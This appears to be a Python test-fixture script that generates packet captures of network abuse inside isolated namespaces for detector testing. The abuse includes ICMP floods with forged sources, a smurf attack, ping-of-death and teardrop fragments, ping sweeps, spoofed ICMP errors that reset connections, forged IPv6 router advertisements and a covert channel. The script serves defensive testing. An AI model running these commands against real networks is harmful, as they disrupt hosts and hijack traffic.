#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Captures of abuse, made with the tools of Debian in namespaces of their own: floods, sweeps, forged
errors, broken fragments. Bounded: each ends by itself after seconds, at 2,000 packets a second at most.

    abuse.py FOLDER [PART-OF-NAME...]

A stranger and a friend reach a server through a router; the capture is that of the router, on the
link to the server (or to the stranger), and the friend's pings are in it all the while."""

import os
import shutil
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "live"))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from net import Net, require_root  # noqa: E402
from traffic import Sniffer  # noqa: E402

HOME = ["10.21.3.0/24", "10.22.0.0/16", "2001:db8:21:3::/64"]  # what the guard is told is ours
SERVER, SERVER6 = "10.21.3.2", "2001:db8:21:3::2"
STRANGER, FRIEND = "10.21.2.2", "10.21.1.2"
FAR = "10.22.0.0/16"  # behind the server: parts of it are there
LOOP = "10.23.0.0/16"
RATE = ["-i", "u500"]  # of hping3: 2,000 a second

ABUSE = {}


def kind(needs, *detectors, at="server"):
    """Registers a maker of traffic: fn(site). `detectors`: those of which one has to find it; `at`:
    whose link is captured."""
    def add(fn):
        ABUSE[fn.__name__] = (needs, detectors, at, fn)
        return fn
    return add


class Site:
    """Namespaces: stranger, friend, server, and the router between them."""

    def __init__(self, net):
        self.stranger, self.friend = net.node("stranger"), net.node("friend")
        self.server, self.router = net.node("server"), net.node("router")
        self.devices = {}
        for third, node in enumerate((self.friend, self.stranger, self.server), 1):
            names = net.link(self.router, node, "10.21.%d.0/24" % third, "2001:db8:21:%d::/64" % third)
            self.devices[node.name] = names[0]
            node.ip("route add default via 10.21.%d.1" % third,
                    "route add default via 2001:db8:21:%d::1" % third)
        for node in (self.router, self.server):
            node.forward()
            node.run(["sh", "-c", "for f in /proc/sys/net/ipv4/conf/*/rp_filter; do echo 0 >$f; done"],
                     check=True)
        self.router.ip("route add blackhole default", "route add %s via %s" % (FAR, SERVER),
                       "route add %s via %s" % (LOOP, SERVER))
        self.server.ip("route add blackhole " + FAR, "route add %s via 10.21.3.1" % LOOP)

    def far(self, *prefixes):
        """These are the server's too, and answer."""
        self.server.ip(*["route add local %s dev lo" % each for each in prefixes])

    def scapy(self, script, node=None):
        """Runs a script in which all of scapy is known."""
        head = ("import logging; logging.getLogger('scapy').setLevel(logging.ERROR)\n"
                "from scapy.all import *\nimport time\nconf.verb = 0\n")
        (node or self.stranger).run(["/usr/bin/python3", "-c", head + script], check=True)

    def see_the_end(self):
        """Until questions that nobody answered count as such."""
        time.sleep(5)

    def mac(self, node, device="eth0"):
        return node.run(["cat", "/sys/class/net/%s/address" % device]).stdout.strip()


# ---- floods --------------------------------------------------------------------------------------

@kind("hping3", "flood-src", "flood-dst")
def flood_hping3(s):
    s.stranger.run(["hping3", "-1", "-q", *RATE, "-c", "6000", SERVER])


@kind("hping3", "flood-dst")
def flood_hping3_forged_sources(s):
    s.stranger.run(["hping3", "-1", "-q", *RATE, "-c", "6000", "--rand-source", SERVER])


@kind("ping", "flood-src", "flood-dst")
def flood_ping(s):
    s.stranger.run(["ping", "-q", "-f", "-l", "3", "-c", "5000", "-w", "4", SERVER])


@kind("ping", "flood-src", "flood-dst")
def flood_ping_v6(s):
    s.stranger.run(["ping", "-q", "-f", "-l", "3", "-c", "5000", "-w", "4", SERVER6])


@kind("nping", "flood-src", "flood-dst")
def flood_nping(s):
    s.stranger.run(["nping", "--icmp", "-q", "--rate", "1500", "-c", "4500", SERVER])


@kind("hping3", "error-flood")
def flood_of_errors_hping3(s):
    s.stranger.run(["hping3", "-1", "-q", *RATE, "-c", "5000", "-C", "3", "-K", "3", SERVER])


@kind("ping", "ttl-storm")
def routing_loop(s):
    s.stranger.run(["ping", "-q", "-i", "0.01", "-c", "300", "-W", "1", "10.23.0.1"])


@kind("hping3", "smurf", at="stranger")
def smurf_hping3(s):
    s.stranger.run(["hping3", "-1", "-q", "-i", "u50000", "-c", "20", "-a", SERVER, "10.21.2.255"])


@kind("scapy", "frag-oversize")
def ping_of_death(s):
    s.scapy("for i in range(3):\n"
            "    send(IP(dst=%r, id=7 + i, frag=8189, proto=1) / Raw(bytes(100)))\n"
            "    time.sleep(0.2)" % SERVER)


@kind("scapy", "frag-abuse")
def teardrop(s):
    s.scapy("for i in range(3):\n"
            "    whole = ICMP(id=1, seq=i) / Raw(bytes(72))\n"
            "    send(IP(dst=%r, id=99 + i, flags='MF', proto=1) / Raw(bytes(whole)[:48]))\n"
            "    send(IP(dst=%r, id=99 + i, frag=3, proto=1) / Raw(b'x' * 40))\n"
            "    time.sleep(0.2)" % (SERVER, SERVER))


# ---- sweeps --------------------------------------------------------------------------------------

@kind("fping", "sweep")
def sweep_fping(s):
    s.far("10.22.0.0/26")
    s.stranger.run(["fping", "-q", "-r", "0", "-i", "5", "-t", "200", "-g", "10.22.0.0/24"])
    s.see_the_end()


@kind("nmap", "sweep")
def sweep_nmap(s):
    s.far("10.22.0.0/26")
    s.stranger.run(["nmap", "-n", "-sn", "-PE", "--max-retries", "0", "10.22.0.0/24"], timeout=60)
    s.see_the_end()


@kind("zmap", "sweep")
def sweep_zmap(s):
    s.far("10.22.0.0/24")
    s.stranger.run(["zmap", "-q", "-M", "icmp_echoscan", "-r", "1000", "-c", "1", "-b", "/dev/null",
                    "-i", "eth0", "-S", STRANGER, "-G", s.mac(s.router, s.devices["stranger"]),
                    "-e", "7", "10.22.0.0/22"], timeout=60)
    s.see_the_end()


@kind("masscan", "sweep")
def sweep_masscan(s):
    s.far("10.22.0.0/24")
    # It would go on listening after its last probe.
    s.stranger.run(["timeout", "5", "masscan", "--ping", "--rate", "1000", "--wait", "1", "-e", "eth0", "--seed", "7",
                    "--router-mac", s.mac(s.router, s.devices["stranger"]).replace(":", "-"),
                    "10.22.0.0/22"])
    s.see_the_end()


@kind("nmap", "recon")
def recon_nmap(s):
    s.stranger.run(["nmap", "-n", "-sn", "-PP", "-PM", SERVER], timeout=60)


@kind("hping3", "recon")
def recon_hping3(s):
    for option in ("--icmp-ts", "--icmp-addr"):
        s.stranger.run(["hping3", "-1", "-q", "-c", "3", "-i", "u100000", option, SERVER])


@kind("hping3", "rate-probing")
def rate_probing_hping3(s):
    s.stranger.run(["hping3", "--udp", "-q", *RATE, "-c", "3000", "-p", "++20000", SERVER])


# ---- forged errors -------------------------------------------------------------------------------

TALK = """
import socket, sys, time
c = socket.create_connection((sys.argv[1], 7007), timeout=10)
print(c.getsockname()[1], flush=True)
for _ in range(40):
    c.sendall(b'x' * 400)
    time.sleep(0.1)
"""
HEAR = """
import socket
s = socket.create_server(('0.0.0.0', 7007))
print('ready', flush=True)
c, _ = s.accept()
while c.recv(4096): pass
"""


def connection(s):
    """A friend's connection to the server; returns its port."""
    if "ready" not in s.server.start(["/usr/bin/python3", "-c", HEAR]).stdout.readline():
        raise AssertionError("no server")
    return int(s.friend.start(["/usr/bin/python3", "-c", TALK, SERVER]).stdout.readline())


def forged(s, port, kind_code, more="", n=12):
    """Errors in the name of the friend, about what the server says to it on a connection."""
    s.scapy("for i in range(%d):\n"
            "    quote = IP(src=%r, dst=%r) / TCP(sport=7007, dport=%d, seq=i * 100000007)\n"
            "    send(IP(src=%r, dst=%r) / ICMP(type=%d, code=%d%s) / Raw(bytes(quote)[:28]))\n"
            "    time.sleep(0.02)" % (n, SERVER, FRIEND, port, FRIEND, SERVER, *kind_code, more))


@kind("scapy", "blind-reset")
def blind_reset(s):
    forged(s, connection(s), (3, 2), n=30)


@kind("scapy", "pmtud")
def path_mtu_of_68(s):
    forged(s, connection(s), (3, 4), ", nexthopmtu=68")


@kind("scapy", "pmtud")
def path_mtu_of_68_v6(s):
    s.scapy("for i in range(5):\n"
            "    quote = IPv6(src=%r, dst='2001:db8:21:1::2') / TCP(sport=80, dport=4000 + i)\n"
            "    send(IPv6(dst=%r) / ICMPv6PacketTooBig(mtu=68) / Raw(bytes(quote)))\n"
            "    time.sleep(0.05)" % (SERVER6, SERVER6))


@kind("nping", "redirect-spoof")
def redirect_nping(s):
    s.stranger.run(["nping", "--icmp", "-q", "--icmp-type", "5", "--icmp-code", "1",
                    "--icmp-redirect-addr", STRANGER, "-c", "3", "--delay", "200ms", SERVER])


@kind("nping", "source-quench")
def source_quench_nping(s):
    s.stranger.run(["nping", "--icmp", "-q", "--icmp-type", "4", "-c", "3", "--delay", "200ms", SERVER])


# ---- what a link is told, and hidden fields ------------------------------------------------------

ADVERT = ("ether = Ether(src=%r, dst='33:33:00:00:00:01')\n"
          "ip = IPv6(src=%r, dst='ff02::1', hlim=255)\n"
          "for i in range(%d):\n"
          "    sendp(ether / ip / %s, iface=%r)\n"
          "    time.sleep(0.3)\n")


@kind("scapy", "ra-spoof", at="stranger")
def router_advertisement_forged(s):
    device = s.devices["stranger"]
    sound = "ICMPv6ND_RA(routerlifetime=1800) / ICMPv6NDOptPrefixInfo(prefix='2001:db8:21:2::')"
    s.scapy(ADVERT % (s.mac(s.router, device), "fe80::1", 3, sound, device), node=s.router)
    bad = "ICMPv6ND_RA(routerlifetime=1800) / ICMPv6NDOptPrefixInfo(prefix='2001:db8:bad::')"
    s.scapy(ADVERT % (s.mac(s.stranger), "fe80::bad", 3, bad, "eth0"))


@kind("scapy", "nd-malformed", at="stranger")
def rdnss_of_even_length(s):
    option = "ICMPv6ND_RA() / Raw(bytes([25, 4, 0, 0]) + bytes(28))"
    s.scapy(ADVERT % (s.mac(s.stranger), "fe80::bad", 2, option, "eth0"))


@kind("scapy", "covert-field")
def bytes_behind_timestamps(s):
    s.scapy("for i in range(12):\n"
            "    send(IP(dst=%r) / ICMP(type=13, id=9, seq=i) / Raw(b'leak %%03d' %% i))\n"
            "    time.sleep(0.1)" % SERVER)


# ---- running them --------------------------------------------------------------------------------

def present(tool):
    if tool == "scapy":
        return os.path.exists("/usr/lib/python3/dist-packages/scapy")
    return shutil.which(tool) is not None


def record(folder, name, at, fn):
    """Writes the capture of one maker of traffic; returns its path."""
    with Net() as net:
        site = Site(net)
        path = os.path.join(folder, name + ".pcap")
        sniffer = Sniffer(site.router, site.devices[at], path)
        beside = site.friend.start(["ping", "-q", "-i", "0.2", SERVER])
        site.friend.run(["ping", "-q", "-c", "8", "-i", "0.2", SERVER6])  # the friend is first
        fn(site)
        beside.terminate()
        sniffer.end()
        return path


def make(folder, table, names=()):
    """Writes the captures whose names contain one of `names` (none: all); returns {name: path} and
    {name: why it was left out}."""
    made, left = {}, {}
    for name, (tool, _, at, fn) in table.items():
        if names and not any(part in name for part in names):
            continue
        if present(tool):
            made[name] = record(folder, name, at, fn)
        else:
            left[name] = tool + " is not installed"
    return made, left


def command(table, usage):
    """The main program of a table of makers."""
    if len(sys.argv) < 2:
        sys.exit(usage)
    require_root()
    os.makedirs(sys.argv[1], exist_ok=True)
    made, left = make(sys.argv[1], table, sys.argv[2:])
    for each in made:
        print(each)
    for each, why in left.items():
        print("left out: %s: %s" % (each, why))


if __name__ == "__main__":
    command(ABUSE, __doc__)
